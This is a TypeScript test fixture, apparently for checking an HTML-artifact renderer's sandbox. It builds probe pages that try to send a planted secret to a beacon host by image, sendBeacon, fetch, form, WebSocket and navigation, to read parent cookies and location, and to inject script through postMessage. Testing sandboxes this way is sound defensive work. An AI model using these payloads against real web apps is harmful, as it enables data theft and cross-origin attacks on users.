/**
 * Hostile html artifacts. Their scripts are meant to run (that is what the html renderer is for),
 * on an opaque origin with no network. The probe tries everything an artifact should not be able
 * to do and writes what it saw into its own <body data-probe>, where the test reads it.
 */

/** What the probe writes: one entry per attempt, either the value it got or `blocked:<ErrorName>`. */
export type ProbeReport = Record<string, string>;

/** A value the artifact receives as `window.__TOOL_DATA__` and must not be able to send anywhere. */
export const artifactSecret = "artifact-secret-7f3a";

export function probeArtifact(beacon: string): string {
  const ws = beacon.replace(/^http/, "ws");
  // Plain ES5-ish script so nothing depends on the frame's parser quirks.
  return `<!doctype html>
<html><head><title>probe</title>
<style>body { background: url('${beacon}/x/artifact-css-bg.png'); }</style>
<link rel="stylesheet" href="${beacon}/x/artifact-link.css">
<link rel="prefetch" href="${beacon}/x/artifact-prefetch">
</head><body>
<p id="status">probe running</p>
<img src="${beacon}/x/artifact-img.png" alt="">
<form id="leak" action="${beacon}/x/artifact-form" method="post"><input name="d" value="${artifactSecret}"></form>
<script>
  var seen = {};
  function attempt(name, fn) {
    try { var value = fn(); seen[name] = value === undefined ? "undefined" : String(value); }
    catch (error) { seen[name] = "blocked:" + (error && error.name ? error.name : "Error"); }
  }
  function settle(name, promise) {
    return Promise.resolve().then(function () { return promise(); }).then(
      function (value) { seen[name] = String(value); },
      function (error) { seen[name] = "blocked:" + (error && error.name ? error.name : "Error"); }
    );
  }
  var secret = (window.__TOOL_DATA__ || {}).secret;
  attempt("toolData", function () { return secret; });
  attempt("origin", function () { return self.origin; });
  attempt("cookie", function () { return document.cookie; });
  attempt("localStorage", function () { localStorage.setItem("k", "v"); return localStorage.length; });
  attempt("sessionStorage", function () { return sessionStorage.length; });
  attempt("indexedDB", function () { indexedDB.open("x"); return "opened"; });
  attempt("parentDocument", function () { return parent.document.cookie; });
  attempt("parentGlobal", function () { parent.__xss = "artifact"; return "set"; });
  attempt("parentLocation", function () { return parent.location.href; });
  attempt("topLocation", function () { return top.location.href; });
  attempt("documentDomain", function () { document.domain = "127.0.0.1"; return document.domain; });
  attempt("alert", function () { return alert("artifact"); });
  attempt("popup", function () { return window.open("${beacon}/x/artifact-popup") === null ? "null" : "opened"; });
  attempt("topNavigation", function () { top.location.href = "${beacon}/x/artifact-top?d=" + secret; return "assigned"; });
  attempt("parentNavigation", function () { parent.location = "${beacon}/x/artifact-parent"; return "assigned"; });
  attempt("image", function () { new Image().src = "${beacon}/x/artifact-js-img?d=" + secret; return "assigned"; });
  attempt("sendBeacon", function () { return navigator.sendBeacon("${beacon}/x/artifact-sendbeacon", secret); });
  attempt("webSocket", function () { new WebSocket("${ws}/x/artifact-ws"); return "created"; });
  attempt("eventSource", function () { new EventSource("${beacon}/x/artifact-sse"); return "created"; });
  attempt("formSubmit", function () { document.getElementById("leak").submit(); return "submitted"; });
  attempt("postMessageToParent", function () {
    parent.postMessage({ type: "covalt-artifact-ready" }, "*");
    parent.postMessage({ type: "covalt-artifact", html: "<script>alert(1)<\\/script>" }, "*");
    return "posted";
  });
  Promise.all([
    settle("appApi", function () { return fetch("/api/chats").then(function (r) { return r.status + ":" + r.type; }); }),
    settle("appApiAbsolute", function () {
      return fetch(location.origin === "null" ? "${beacon}/x/never" : location.origin + "/api/chats", { credentials: "include" })
        .then(function (r) { return r.status + ":" + r.type; });
    }),
    settle("beaconFetch", function () {
      return fetch("${beacon}/x/artifact-fetch?d=" + secret, { mode: "no-cors" }).then(function (r) { return r.type; });
    }),
    settle("xhr", function () {
      return new Promise(function (resolve, reject) {
        var xhr = new XMLHttpRequest();
        xhr.open("GET", "${beacon}/x/artifact-xhr");
        xhr.onload = function () { resolve(xhr.status); };
        xhr.onerror = function () { reject(new TypeError("network")); };
        xhr.send();
      });
    }),
  ]).then(function () {
    document.body.setAttribute("data-probe", JSON.stringify(seen));
    document.getElementById("status").textContent = "probe done";
  });
</script>
</body></html>`;
}

/** Artifacts that try to leave by navigating their own frame: by script, by meta refresh, by a link click. */
export function navigationArtifacts(beacon: string): Record<string, string> {
  return {
    script: `<p>nav-script</p><script>location.href = "${beacon}/x/nav-script?d=" + (window.__TOOL_DATA__ || {}).secret;</script>`,
    meta: `<meta http-equiv="refresh" content="0;url=${beacon}/x/nav-meta"><p>nav-meta</p>`,
    anchor: `<a id="go" href="${beacon}/x/nav-anchor">nav-anchor</a><script>document.getElementById("go").click();</script>`,
  };
}
